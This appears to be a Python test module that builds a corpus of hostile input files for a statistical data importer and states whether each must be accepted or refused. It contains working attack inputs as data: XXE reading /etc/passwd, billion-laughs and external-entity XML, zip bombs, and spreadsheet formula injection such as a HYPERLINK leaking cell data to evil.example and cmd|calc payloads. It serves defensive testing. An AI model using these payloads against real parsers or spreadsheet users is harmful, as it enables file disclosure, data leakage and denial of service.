"""A hostile corpus, generated (issue 20, criterion 16): files a careless or malicious provider
could send, each with the answer midex owes them. No file is committed: every one is built here
from code, small and fast (the largest is 6 MB, built in milliseconds).

A case builds the file's bytes and states the outcome the provider relies on:

- `Accepted(data, rows)`: parsed, and the raw zone holds exactly `rows`, in order (each a dict
  of the columns that matter, compared with the strings stored: nothing dropped, no mojibake,
  no formula evaluated);
- `Refused(data, says)`: rejected, with one finding whose message matches the regex `says`.

Builders take `canary`: the URL of a local listener that must never be contacted (an XML file
that makes midex fetch it is a server-side request forgery). A case with `xfail` states the
outcome midex owes, which it does not give today; the reason says what happens instead.
"""

from __future__ import annotations

import csv
import io
import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

HEADER = ("REF_AREA", "INDICATOR", "TIME_PERIOD", "OBS_VALUE", "COMMENT")
HEADER4 = ["REF_AREA", "INDICATOR", "TIME_PERIOD", "OBS_VALUE"]
PASSWD = "/etc/passwd"


@dataclass(frozen=True)
class Accepted:
    data: bytes
    rows: list[dict[str, object]]


@dataclass(frozen=True)
class Refused:
    data: bytes
    says: str  # a regex the finding's message matches


Outcome = Accepted | Refused


@dataclass(frozen=True)
class Case:
    id: str
    file_name: str
    fmt: str
    build: Callable[[str], Outcome]
    xfail: str | None = None  # what midex does instead today (a bug), if it does not comply
    env: dict[str, str] = field(default_factory=dict)  # settings for this case only
    budget_s: float = 20.0  # longer than this is a hang


CASES: list[Case] = []


def case(
    file_name: str,
    fmt: str = "auto",
    *,
    xfail: str | None = None,
    env: dict[str, str] | None = None,
    budget_s: float = 20.0,
) -> Callable[[Callable[[str], Outcome]], Callable[[str], Outcome]]:
    def register(build: Callable[[str], Outcome]) -> Callable[[str], Outcome]:
        CASES.append(Case(build.__name__, file_name, fmt, build, xfail, env or {}, budget_s))
        return build

    return register


# ------------------------------------------------------------------------------------ helpers


def obs(
    area: str = "MEX",
    period: str = "2020",
    value: str = "1",
    comment: str | None = "",
    indicator: str = "SM_POP_NETM",
    row: int | None = None,
) -> dict[str, object]:
    """One observation as the raw zone stores it (`comment` None: the file has no COMMENT)."""
    found: dict[str, object] = {
        "REF_AREA": area,
        "INDICATOR": indicator,
        "TIME_PERIOD": period,
        "OBS_VALUE": value,
        "COMMENT": comment,
    }
    if row is not None:
        found["SOURCE_ROW"] = row
    return found


def csv_text(rows: list[dict[str, object]], sep: str = ",", eol: str = "\n") -> str:
    """The template as a spreadsheet program writes it (quoted only where needed)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=sep, lineterminator=eol)
    writer.writerow(HEADER)
    for r in rows:
        writer.writerow([r[c] for c in HEADER])
    return out.getvalue()


def csv_case(rows: list[dict[str, object]], encoding: str = "utf-8", **kw: str) -> Accepted:
    return Accepted(csv_text(rows, **kw).encode(encoding), rows)


HEAD_LINE = ",".join(HEADER).encode() + b"\n"


def filler(n: int) -> bytes:
    """n plain template lines: enough to push what follows past the first 64 KB."""
    return b"MEX,G,2020,1,x\n" * n


def xlsx(rows: list[list[object]], as_text: bool = False) -> bytes:
    """A workbook written by openpyxl (strings inline); `as_text` stores '=…' as text."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = ws.cell(row=r, column=c, value=value)
            if as_text and isinstance(value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
Edit = Callable[[bytes], bytes]


def rewrite(
    data: bytes, edits: dict[str, Edit], extra: tuple[tuple[str, bytes], ...] = ()
) -> bytes:
    """The zip with some parts changed and `extra` (name, bytes) parts added."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            part = src.read(info)
            zf.writestr(info.filename, edits.get(info.filename, lambda b: b)(part))
        for name, part in extra:
            zf.writestr(name, part)
    return out.getvalue()


def dimension(ref: str, quote: str = '"') -> Edit:
    """The sheet's <dimension> tag set to `ref`, its attribute in `quote` (XML allows ' too)."""

    def edit(xml: bytes) -> bytes:
        tag = f"<dimension ref={quote}{ref}{quote}".encode()
        out, n = re.subn(rb'<dimension ref="[^"]*"', tag, xml)
        assert n == 1
        return out

    return edit


def sheet_data(cells_xml: str, doctype: str = "") -> Edit:
    """Replace the sheet's <sheetData> with hand-written XML (cells openpyxl would not write)."""

    def edit(xml: bytes) -> bytes:
        out, n = re.subn(
            rb"<sheetData>.*</sheetData>|<sheetData ?/>",
            f"<sheetData>{cells_xml}</sheetData>".encode(),
            xml,
            flags=re.S,
        )
        assert n == 1
        if doctype:
            out = out.replace(b"?>", b"?>" + doctype.encode(), 1)
        return out

    return edit


def inline_row(r: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{"ABCDEFGH"[i]}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
    )
    return f'<row r="{r}">{cells}</row>'


_SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def shared_strings_xlsx(rows: list[list[str]], padding: bytes = b"") -> bytes:
    """A workbook whose cells are shared strings (as Excel writes them), with `padding` more
    <si> items in the shared-strings part that no cell uses."""
    strings: list[str] = []
    lines = []
    for r, row in enumerate(rows, start=1):
        cells = ""
        for i, value in enumerate(row):
            strings.append(value)
            cells += f'<c r="{"ABCDEFGH"[i]}{r}" t="s"><v>{len(strings) - 1}</v></c>'
        lines.append(f'<row r="{r}">{cells}</row>')
    sst = (
        (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + "".join(f"<si><t>{s}</t></si>" for s in strings)
        ).encode()
        + padding
        + b"</sst>"
    )
    return rewrite(
        xlsx([]),
        {
            SHEET: sheet_data("".join(lines)),
            "[Content_Types].xml": lambda b: b.replace(
                b"</Types>",
                f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_SST_TYPE}"/>'
                "</Types>".encode(),
            ),
            "xl/_rels/workbook.xml.rels": lambda b: b.replace(
                b"</Relationships>",
                f'<Relationship Id="rIdSst" Type="{_SST_REL}" Target="sharedStrings.xml"/>'
                "</Relationships>".encode(),
            ),
        },
        extra=(("xl/sharedStrings.xml", sst),),
    )


def _zip_headers(data: bytes, member: str) -> list[tuple[int, int]]:
    """(offset, kind) of `member`'s local (kind 0) and central (kind 1) headers."""
    found = []
    name = member.encode()
    for kind, (sig, name_len_at, name_at) in enumerate(
        ((b"PK\x03\x04", 26, 30), (b"PK\x01\x02", 28, 46))
    ):
        at = 0
        for _ in range(1000):  # a workbook of openpyxl has a dozen parts
            at = data.find(sig, at)
            if at < 0:
                break
            n = struct.unpack_from("<H", data, at + name_len_at)[0]
            if data[at + name_at : at + name_at + n] == name:
                found.append((at, kind))
            at += 4
    assert len(found) == 2, member
    return found


def patch_zip(data: bytes, member: str, field_name: str, value: int) -> bytes:
    """The zip with one field of `member`'s headers changed: its declared size (central
    directory only, what a reader checks first), its flags or its compression method."""
    offsets = {"size": (None, 24), "flags": (6, 8), "method": (8, 10)}[field_name]
    out = bytearray(data)
    for at, kind in _zip_headers(data, member):
        where = offsets[kind]
        if where is None:
            continue
        fmt = "<I" if field_name == "size" else "<H"
        if field_name == "flags":
            value |= struct.unpack_from("<H", data, at + where)[0]
        struct.pack_into(fmt, out, at + where, value)
    return bytes(out)


SDMX_NS = (
    'xmlns:m="http://www.sdmx.org/resources/sdmxml/schemas/v2_1/message" '
    'xmlns:s="http://www.sdmx.org/resources/sdmxml/schemas/v2_1/data/structurespecific" '
    'xmlns:u="urn:sdmx:org.sdmx.infomodel.datastructure.DataStructure=MX:REMIT(1.0)'
    ':ObsLevelDim:TIME_PERIOD" '
    'xmlns:c="http://www.sdmx.org/resources/sdmxml/schemas/v2_1/common" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
)


def sdmx_ml(doctype: str = "", header_id: str = "T1", series: str = "") -> bytes:
    """A structure-specific SDMX-ML 2.1 data message, with a DOCTYPE of the caller's choice."""
    series = series or (
        '<Series REF_AREA="PHL" INDICATOR="REMIT_IN" FREQ="A">'
        '<Obs TIME_PERIOD="2021" OBS_VALUE="36685.7"/></Series>'
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"{doctype}\n"
        f"<m:StructureSpecificData {SDMX_NS}>"
        f"<m:Header><m:ID>{header_id}</m:ID><m:Test>true</m:Test>"
        '<m:Prepared>2024-01-01T00:00:00</m:Prepared><m:Sender id="MX"/>'
        '<m:Structure dimensionAtObservation="TIME_PERIOD" structureID="STR1">'
        '<c:StructureUsage><Ref id="REMIT" agencyID="MX" version="1.0"/></c:StructureUsage>'
        "</m:Structure></m:Header>"
        f'<u:DataSet s:structureRef="STR1" xsi:type="u:DataSetType">{series}</u:DataSet>'
        "</m:StructureSpecificData>\n"
    ).encode()


XXE = f'<!DOCTYPE m:StructureSpecificData [<!ENTITY xxe SYSTEM "file://{PASSWD}">]>'
LAUGHS = (
    '<!DOCTYPE m:StructureSpecificData [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
SDMX_ROW = {"REF_AREA": "PHL", "INDICATOR": "REMIT_IN", "TIME_PERIOD": "2021"}
XML_SAYS = "cannot read as sdmx-ml .*export the data again"


# ---------------------------------------------------------------------------------- encodings

SAMPLE = [obs("CIV", comment="Côte d'Ivoire"), obs("STP", comment="São Tomé")]
BINARY = "not a text file .*save it as CSV or .xlsx and resubmit"


@case("utf16_bom.csv")
def utf16_with_bom(canary: str) -> Outcome:
    return Refused(csv_text(SAMPLE).encode("utf-16"), BINARY)


@case("utf16le.csv")
def utf16le_without_bom(canary: str) -> Outcome:
    return Refused(csv_text(SAMPLE).encode("utf-16-le"), BINARY)


@case("utf16be_bom.csv", "template")
def utf16be_with_bom(canary: str) -> Outcome:
    return Refused(b"\xfe\xff" + csv_text(SAMPLE).encode("utf-16-be"), BINARY)


@case("utf32.csv")
def utf32(canary: str) -> Outcome:
    return Refused(csv_text(SAMPLE).encode("utf-32"), BINARY)


@case("latin1.csv")
def latin1(canary: str) -> Outcome:
    return csv_case(SAMPLE, encoding="latin-1")


@case("cp1252_quotes.csv")
def cp1252_smart_quotes_and_dashes(canary: str) -> Outcome:
    return csv_case([obs("MEX", comment="“estimate” – revised … 2021 €")], encoding="cp1252")


@case("latin1_then_utf8.csv")
def latin1_mixed_with_utf8(canary: str) -> Outcome:
    data = HEAD_LINE + "CIV,G,2020,1,Côte\n".encode("cp1252") + "SEN,G,2020,2,Sénégal\n".encode()
    return Refused(data, "line 3: 'é' is written in UTF-8.*save the whole file as CSV UTF-8")


@case("utf8_then_invalid.csv")
def invalid_utf8_past_64k(canary: str) -> Outcome:
    data = HEAD_LINE + "MEX,G,2020,1,São Tomé\n".encode() * 4000 + b"MEX,G,2021,2,C\xf4te\n"
    return Refused(data, "line 4002: byte 0xf4 is not UTF-8.*save the whole file as CSV UTF-8")


@case("not_cp1252.csv")
def neither_utf8_nor_cp1252(canary: str) -> Outcome:
    return Refused(HEAD_LINE + b"C\x81te,G,2020,1,x\n", "neither UTF-8 nor Windows-1252.*resubmit")


@case("utf8_cut_at_64k.csv")
def utf8_character_cut_by_the_sniff_window(canary: str) -> Outcome:
    """A three-byte character straddling byte 65,536: still UTF-8, not Windows-1252."""
    out = csv_case([obs("MEX", comment="x" * (65536 - len(HEAD_LINE) - 24) + "€")])
    assert out.data.index("€".encode()) == 65535
    return out


@case("lone_bom.csv")
def only_a_byte_order_mark(canary: str) -> Outcome:
    return Refused(b"\xef\xbb\xbf", "row 1 is empty.*start from a blank template .*resubmit")


@case("bom_and_blank_lines.csv")
def a_bom_then_blank_lines(canary: str) -> Outcome:
    return Refused(
        b"\xef\xbb\xbf\r\n\r\n  \n", "row 1 is empty.*start from a blank template .*resubmit"
    )


@case("empty.csv")
def empty(canary: str) -> Outcome:
    return Refused(b"", "the file is empty; export the data again and resubmit")


@case("blank.csv")
def whitespace_only(canary: str) -> Outcome:
    return Refused(b" \t\r\n" * 100, "the file is empty; export the data again and resubmit")


NO_ROWS = "has a header but no data rows; put the figures below the header"


@case("header_only.csv")
def only_a_header(canary: str) -> Outcome:
    return Refused(HEAD_LINE, NO_ROWS)


@case(
    "header_only_no_eol.csv",
    "template",
)
def only_a_header_without_newline(canary: str) -> Outcome:
    return Refused(HEAD_LINE.rstrip(b"\n"), NO_ROWS)


@case("bom_crlf.csv")
def utf8_bom_and_windows_line_ends(canary: str) -> Outcome:
    rows = [obs("CIV", comment="Côte d'Ivoire"), obs("ALA", comment="Åland")]
    return Accepted(b"\xef\xbb\xbf" + csv_text(rows, eol="\r\n").encode(), rows)


# -------------------------------------------------------------------------------- NUL bytes

NUL_SAYS = "a NUL byte .*export it again as CSV"


@case("nul_at_start.csv")
def nul_at_the_start(canary: str) -> Outcome:
    return Refused(b"\x00" + HEAD_LINE + filler(2), BINARY)


@case("nul_past_64k.csv")
def nul_past_64k(canary: str) -> Outcome:
    return Refused(HEAD_LINE + filler(5000) + b"MEX,G,2021,2,b\x00c\n", f"line 5002: {NUL_SAYS}")


@case("nul_quoted.csv", "template")
def nul_inside_a_quoted_cell(canary: str) -> Outcome:
    return Refused(HEAD_LINE + b'MEX,G,2020,1,"a\x00b"\n', BINARY)


@case("nul.tsv", "eurostat-tsv")
def nul_in_a_eurostat_file_past_64k(canary: str) -> Outcome:
    rows = "".join(f"CNMIGRAT,A{i % 10}\t{i} \n" for i in range(7000)).encode()
    data = b"indic_de,geo\\time\t2019 \n" + rows + b"CNMIGRAT,AT\t5\x00 \n"
    return Refused(data, f"line 7002: {NUL_SAYS}")


@case(
    "nul_sdmx.csv",
    "sdmx-csv",
)
def nul_in_an_sdmx_csv_past_64k(canary: str) -> Outcome:
    head = b"DATAFLOW,REF_AREA,INDICATOR,TIME_PERIOD,OBS_VALUE\n"
    rows = b"MX:REMIT(1.0),PHL,REMIT_IN,2021,1\n" * 3000
    return Refused(head + rows + b"MX:REMIT(1.0),P\x00HL,REMIT_IN,2022,2\n", NUL_SAYS)


@case("nul_wdi.csv", "wdi")
def nul_in_a_wdi_download(canary: str) -> Outcome:
    head = b'"Country Name","Country Code","Indicator Name","Indicator Code","2020",\n'
    rows = b'"Mexico","MEX","Remittances","BX.TRF","1",\n' * 2000
    data = head + rows + b'"Mex\x00ico","MEX","R","BX.TRF","2",\n'
    return Refused(data, f"line 2002: {NUL_SAYS}")


# ------------------------------------------------------------------------------ huge lines


@case("one_line.csv")
def a_5mb_single_line(canary: str) -> Outcome:
    return Refused(b"A" * (5 << 20), "required column.*missing.*start from the template")


@case(
    "long_header.csv",
    "template",
)
def a_5mb_header_line(canary: str) -> Outcome:
    """A header whose last name is 5 MB long, beyond the CSV reader's block."""
    data = HEAD_LINE.rstrip(b"\n") + b",X" + b"Y" * (5 << 20) + b"\nMEX,G,2020,1,a,b\n"
    return Refused(data, "row 1: .*header")


@case(
    "wide_header.csv",
)
def a_header_longer_than_64k(canary: str) -> Outcome:
    extra = [f"EXTRA_COLUMN_{i}" for i in range(8000)]
    rows = [obs("MEX", comment="a"), obs("FRA", comment="b")]
    lines = [",".join([*extra, *HEADER])]
    lines += [",".join(["v"] * len(extra) + [str(r[c]) for c in HEADER]) for r in rows]
    return Accepted("\n".join(lines).encode() + b"\n", rows)


@case("cell_2mb.csv")
def a_2mb_cell(canary: str) -> Outcome:
    return csv_case([obs("MEX", comment="Z" * (2 << 20)), obs("FRA")])


@case("cell_6mb.csv")
def a_6mb_cell(canary: str) -> Outcome:
    """A cell bigger than the CSV reader's 4 MB block."""
    return csv_case([obs("MEX"), obs("FRA", comment="Z" * (6 << 20)), obs("DEU")])


@case("wide.csv")
def ten_thousand_columns(canary: str) -> Outcome:
    extra = [f"X{i}" for i in range(10_000 - len(HEADER))]
    rows = [obs("MEX", comment="a"), obs("FRA", comment="b")]
    lines = [",".join([*HEADER, *extra])]
    lines += [",".join([str(r[c]) for c in HEADER] + ["v"] * len(extra)) for r in rows]
    return Accepted("\n".join(lines).encode() + b"\n", rows)


@case(
    "blank_lines.csv",
)
def many_blank_lines_between_rows(canary: str) -> Outcome:
    data = HEAD_LINE + b"MEX,G,2020,1,a\n" + b"\n" * 50_000 + b"FRA,G,2020,2,b\n"
    rows = [obs("MEX", indicator="G", comment="a", row=2)]
    rows.append(obs("FRA", indicator="G", value="2", comment="b", row=50_003))
    return Accepted(data, rows)


# ------------------------------------------------------------------------------ CSV quirks


@case(
    "unbalanced_quote.csv",
)
def an_unbalanced_quote(canary: str) -> Outcome:
    data = HEAD_LINE + b'MEX,G,2020,1,"open\nFRA,G,2020,2,x\nDEU,G,2020,3,y\n'
    return Refused(data, "row 2.*quote")


@case("inch_mark.csv")
def a_quote_inside_an_unquoted_cell(canary: str) -> Outcome:
    """An odd number of quotes that opens no cell: a quote inside a cell is only a character."""
    data = HEAD_LINE + b'MEX,G,2020,1,5" screen\nFRA,G,2020,2,b\n'
    rows = [obs("MEX", indicator="G", comment='5" screen'), obs("FRA", indicator="G", value="2")]
    rows[1]["COMMENT"] = "b"
    return Accepted(data, rows)


@case("blank_and_empty_rows_crlf.csv")
def blank_lines_and_rows_of_delimiters_in_crlf(canary: str) -> Outcome:
    """Blank lines and rows of empty cells (a spreadsheet's formatted but empty rows) are not
    observations, and the rows after them keep the numbers a spreadsheet shows."""
    data = (
        HEAD_LINE.replace(b"\n", b"\r\n")
        + b"MEX,G,2020,1,a\r\n\r\n,,,,\r\nFRA,G,2020,2,b\r\n,,,,\r\n"
    )
    rows = [obs("MEX", indicator="G", comment="a", row=2)]
    rows.append(obs("FRA", indicator="G", value="2", comment="b", row=5))
    return Accepted(data, rows)


@case("header_repeated.csv")
def the_header_repeated_mid_file(canary: str) -> Outcome:
    return csv_case([obs("MEX"), dict(zip(HEADER, HEADER, strict=True)), obs("FRA")])


@case("duplicate_columns.csv")
def a_column_twice(canary: str) -> Outcome:
    data = b"REF_AREA,INDICATOR,TIME_PERIOD,OBS_VALUE,OBS_VALUE\nMEX,G,2020,1,2\n"
    return Refused(data, r"row 1: column\(s\) OBS_VALUE appear twice; keep one")


@case("delimiters.csv")
def semicolon_header_comma_rows(canary: str) -> Outcome:
    data = b"REF_AREA;INDICATOR;TIME_PERIOD;OBS_VALUE\nMEX,G,2020,1\nFRA,G,2020,2\n"
    return Refused(data, "row 2 has 1 fields, expected 4.*stray delimiter")


@case("ragged.csv")
def one_field_too_many(canary: str) -> Outcome:
    data = HEAD_LINE + b"MEX,G,2020,1,a\nFRA,G,2020,2,b,c\n"
    return Refused(data, "row 3 has 6 fields, expected 5.*missing quote")


@case("mac_line_ends.csv")
def carriage_returns_only(canary: str) -> Outcome:
    return csv_case([obs("MEX"), obs("FRA", value="2")], eol="\r")


@case("quoted_newlines.csv")
def newlines_inside_cells(canary: str) -> Outcome:
    return csv_case([obs("MEX", comment="line one\nline two\r\nthree"), obs("FRA")])


@case("tabs.csv")
def tab_separated_with_commas_in_values(canary: str) -> Outcome:
    return csv_case([obs("MEX", value="1,234", comment="a, b, c")], sep="\t")


@case("no_template.csv")
def a_table_that_is_not_the_template(canary: str) -> Outcome:
    return Refused(b"Jahr;Saldo\n2020;5\n", "matches no format midex reads.*`midex template`")


# -------------------------------------------------------------------- numbers, periods, codes


@case("numbers.csv")
def numbers_that_do_not_fit(canary: str) -> Outcome:
    values = ["1e309", "-1e309", "NaN", "Infinity", "-inf", "1,234.5.6", "9" * 100, "-0"]
    values += ["-0.0", "0x1F", "1_000", "١٢٣", "1e-400", " 42 "]
    return csv_case([obs("MEX", period=str(2000 + i), value=v) for i, v in enumerate(values)])


@case("decimal_comma_nan.csv")
def decimal_comma_file_with_nan(canary: str) -> Outcome:
    """Not every value reads as a decimal-comma number: all are kept as written."""
    rows = [obs("MEX", value="1,5"), obs("FRA", value="NaN"), obs("DEU", value="Infinity")]
    return csv_case(rows, sep=";")


@case("periods.csv")
def periods_that_do_not_exist(canary: str) -> Outcome:
    periods = ["2020-13", "0000", "99999", "2020-02-30", "-2020", "2020Q5", "2020-W54", "1e3"]
    return csv_case([obs("MEX", period=p) for p in periods])


@case("control_characters.csv")
def codes_with_control_characters(canary: str) -> Outcome:
    rows = [obs("ME\x01X"), obs("\x1b[31mFRA\x1b[0m"), obs("DEU\x07", comment="tab\there\x7f")]
    return csv_case(rows)


@case("bidi.csv")
def codes_with_invisible_and_bidi_characters(canary: str) -> Outcome:
    rows = [obs("ME\u202eX"), obs("FR\u200dA"), obs("\ufeffDEU"), obs("ESP\u200b")]
    rows.append(obs("ITA", comment="\u2028line separator\u2029paragraph\x85next"))
    return csv_case(rows)


@case("long_code.csv")
def a_5000_character_code(canary: str) -> Outcome:
    return csv_case([obs("X" * 5000, indicator="I" * 5000)])


@case("unicode.csv")
def unicode_beyond_the_basic_plane(canary: str) -> Outcome:
    return csv_case([obs("MEX", comment="🇲🇽 𝔐𝔢𝔵 e\u0301 \U0010ffff"), obs("FRA", comment="Ω≈ç√")])


# ----------------------------------------------------------------------------- formulas


@case("formulas.csv")
def formula_text_in_a_csv(canary: str) -> Outcome:
    comments = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"]
    comments += ["@SUM(1)", "-2+3", "=1+1", "\t=1+1", "=cmd|'/c calc'!A1"]
    rows = [obs("MEX", period=str(2000 + i), comment=c) for i, c in enumerate(comments)]
    rows.append(obs("FRA", value="=1+1"))
    return csv_case(rows)


@case("formula_text.xlsx")
def formula_text_stored_as_text_in_a_workbook(canary: str) -> Outcome:
    texts = ['=HYPERLINK("http://evil.example","x")', "+1+1", "@SUM(1)", "-2+3"]
    sheet: list[list[object]] = [[*HEADER4, "COMMENT"]]
    sheet += [["MEX", "G", str(2000 + i), "1", t] for i, t in enumerate(texts)]
    rows = [obs("MEX", str(2000 + i), comment=t, indicator="G") for i, t in enumerate(texts)]
    return Accepted(xlsx(sheet, as_text=True), rows)


@case("formula_cached.xlsx")
def a_formula_with_a_stale_cached_value(canary: str) -> Outcome:
    """The cell says =1+1 and the value saved with it is 7: the saved value is what the
    provider saw; midex computes nothing."""
    cells = inline_row(1, HEADER4) + inline_row(2, ["MEX", "G", "2020"]).replace(
        "</row>", '<c r="D2"><f>1+1</f><v>7</v></c></row>'
    )
    data = rewrite(xlsx([HEADER4]), {SHEET: sheet_data(cells)})
    return Accepted(data, [obs("MEX", value="7", comment=None, indicator="G")])


@case("formula_uncached.xlsx")
def a_formula_without_a_saved_value(canary: str) -> Outcome:
    """A formula saved without its value (as openpyxl writes them): the row is kept, the value
    is empty (not computed); harmonisation reports the missing value."""
    sheet: list[list[object]] = [HEADER4, ["MEX", "G", "2020", "=1+1"], ["FRA", "G", "2020", "3"]]
    rows = [obs("MEX", value="", comment=None, indicator="G")]
    rows.append(obs("FRA", value="3", comment=None, indicator="G"))
    return Accepted(xlsx(sheet), rows)


# ------------------------------------------------------------------------------------ XML


@case("xxe.xml", "sdmx-ml")
def xxe_reading_etc_passwd(canary: str) -> Outcome:
    return Refused(sdmx_ml(XXE, header_id="&xxe;"), XML_SAYS)


@case("xxe_auto.xml")
def xxe_reading_etc_passwd_detected(canary: str) -> Outcome:
    return Refused(sdmx_ml(XXE, header_id="&xxe;"), XML_SAYS)


@case("laughs.xml", "sdmx-ml")
def billion_laughs(canary: str) -> Outcome:
    return Refused(sdmx_ml(LAUGHS, header_id="&l9;"), XML_SAYS)


@case("laughs_auto.xml")
def billion_laughs_detected(canary: str) -> Outcome:
    return Refused(sdmx_ml(LAUGHS, header_id="&l9;"), XML_SAYS)


@case("external_dtd.xml", "sdmx-ml")
def an_external_dtd(canary: str) -> Outcome:
    """A DOCTYPE naming a DTD by URL: read without fetching it."""
    doctype = f'<!DOCTYPE m:StructureSpecificData SYSTEM "{canary}/evil.dtd">'
    return Accepted(sdmx_ml(doctype), [{**SDMX_ROW, "OBS_VALUE": "36685.7"}])


@case("external_entity_url.xml")
def an_external_entity_by_url(canary: str) -> Outcome:
    doctype = f'<!DOCTYPE m:StructureSpecificData [<!ENTITY e SYSTEM "{canary}/entity">]>'
    return Refused(sdmx_ml(doctype, header_id="&e;"), XML_SAYS)


@case("parameter_entity.xml", "sdmx-ml")
def an_out_of_band_parameter_entity(canary: str) -> Outcome:
    doctype = f'<!DOCTYPE m:StructureSpecificData [<!ENTITY % p SYSTEM "{canary}/p.dtd"> %p;]>'
    return Refused(sdmx_ml(doctype), XML_SAYS)


@case("internal_entity.xml", "sdmx-ml")
def an_internal_entity_in_a_code(canary: str) -> Outcome:
    doctype = '<!DOCTYPE m:StructureSpecificData [<!ENTITY a "PHL">]>'
    series = (
        '<Series REF_AREA="&a;" INDICATOR="REMIT_IN" FREQ="A">'
        '<Obs TIME_PERIOD="2021" OBS_VALUE="1"/></Series>'
    )
    return Refused(sdmx_ml(doctype, series=series), XML_SAYS)


@case("deep.xml", "sdmx-ml")
def a_very_deep_document(canary: str) -> Outcome:
    depth = 50_000
    return Refused(sdmx_ml(series="<x>" * depth + "</x>" * depth), NO_ROWS)


@case("cut.xml", "sdmx-ml")
def a_truncated_sdmx_message(canary: str) -> Outcome:
    return Refused(sdmx_ml()[:700], XML_SAYS)


@case(
    "sdmx_latin1.xml",
    "sdmx-ml",
)
def an_sdmx_ml_in_latin1(canary: str) -> Outcome:
    series = (
        '<Series REF_AREA="CIV" INDICATOR="REMIT_IN" FREQ="A" COMMENT="Côte">'
        '<Obs TIME_PERIOD="2021" OBS_VALUE="1"/></Series>'
    )
    data = sdmx_ml(series=series).replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
    return Refused(data.decode().encode("latin-1"), "UTF-8")


@case("xml_as_template.csv", "template")
def xml_sent_as_the_template(canary: str) -> Outcome:
    return Refused(sdmx_ml(XXE, header_id="&xxe;"), "not the template; for SDMX-ML use")


@case("html.xls")
def an_xls_that_is_html(canary: str) -> Outcome:
    data = b"<html><body><table><tr><td>REF_AREA</td><td>INDICATOR</td></tr></table></body></html>"
    return Refused(data, "not the template")


@case("html_wdi.xls", "wdi")
def an_xls_that_is_html_sent_as_wdi(canary: str) -> Outcome:
    data = b"<html><table><tr><td>Country Name</td></tr></table></html>"
    return Refused(data, "not a WDI download .*check the file or --format")


# ----------------------------------------------------------------- zip bombs and lying workbooks

LIMIT_SAYS = "send the data as CSV|split the workbook|save the workbook again"
ONE_ROW = [HEADER4, ["MEX", "G", "2020", "1"]]
ONE_ROW_READ = [obs("MEX", comment=None, indicator="G")]


@case("lying_size.xlsx")
def a_part_that_claims_4gb(canary: str) -> Outcome:
    data = patch_zip(xlsx(ONE_ROW), SHEET, "size", 0xFFFF0000)
    return Refused(data, f"unpacks to 4,294,9.* over the limit.*({LIMIT_SAYS})")


@case("compressible.xlsx")
def a_highly_compressible_sheet(canary: str) -> Outcome:
    data = rewrite(xlsx(ONE_ROW), {SHEET: lambda b: b + b" " * (20 << 20)})
    return Refused(data, f"{SHEET} unpacks to .* times its packed size.*zip bomb")


@case("shared_strings_bomb.xlsx", "template")
def a_shared_strings_bomb(canary: str) -> Outcome:
    data = shared_strings_xlsx(ONE_ROW, padding=b"<si><t>a</t></si>" * 200_000)
    return Refused(data, "xl/sharedStrings.xml unpacks to .* times its packed size")


@case("shared_strings_bomb_auto.xlsx", budget_s=4)
def a_shared_strings_bomb_detected(canary: str) -> Outcome:
    """Detection (--format auto) must not open it unchecked, once per layout it tries."""
    return a_shared_strings_bomb(canary)


@case("many_strings.xlsx", env={"MIDEX_XLSX_MAX_SHARED_STRINGS_BYTES": "65536"})
def more_shared_strings_than_the_limit(canary: str) -> Outcome:
    rnd = random.Random(20)
    words = ["".join(rnd.choices("abcdefghijklmnopqrstuvwxyz", k=12)) for _ in range(8000)]
    padding = "".join(f"<si><t>{w}</t></si>" for w in words).encode()
    data = shared_strings_xlsx([[*HEADER4, "COMMENT"], ["MEX", "G", "2020", "1", "x"]], padding)
    return Refused(data, f"shared-strings table .* over the limit of 65,536 bytes; ({LIMIT_SAYS})")


@case("shared_strings.xlsx")
def shared_strings_that_look_like_formulas(canary: str) -> Outcome:
    data = shared_strings_xlsx([[*HEADER4, "COMMENT"], ["MEX", "G", "2020", "1", "=1+1"]])
    return Accepted(data, [obs("MEX", comment="=1+1", indicator="G")])


@case("huge_dimension.xlsx")
def a_dimension_of_a_whole_sheet_on_three_rows(canary: str) -> Outcome:
    data = rewrite(xlsx([*ONE_ROW, ONE_ROW[1]]), {SHEET: dimension("A1:XFD1048576")})
    return Refused(data, "A1:XFD1048576.*over the limit.*delete the unused rows")


@case("short_dimension.xlsx")
def a_dimension_of_two_rows_on_eleven(canary: str) -> Outcome:
    sheet: list[list[object]] = [HEADER4]
    sheet += [["MEX", "G", str(2000 + i), str(i)] for i in range(10)]
    data = rewrite(xlsx(sheet), {SHEET: dimension("A1:C2")})
    rows = [obs("MEX", str(2000 + i), str(i), None, "G", row=i + 2) for i in range(10)]
    return Accepted(data, rows)


@case("sparse.xlsx")
def a_sparse_sheet_with_a_row_far_below(canary: str) -> Outcome:
    cells = inline_row(1, HEADER4) + inline_row(2, ["MEX", "G", "2020", "1"])
    cells += inline_row(150_000, ["FRA", "G", "2020", "2"])
    data = rewrite(xlsx([HEADER4]), {SHEET: sheet_data(cells)})
    rows = [obs("MEX", comment=None, indicator="G", row=2)]
    rows.append(obs("FRA", value="2", comment=None, indicator="G", row=150_000))
    return Accepted(data, rows)


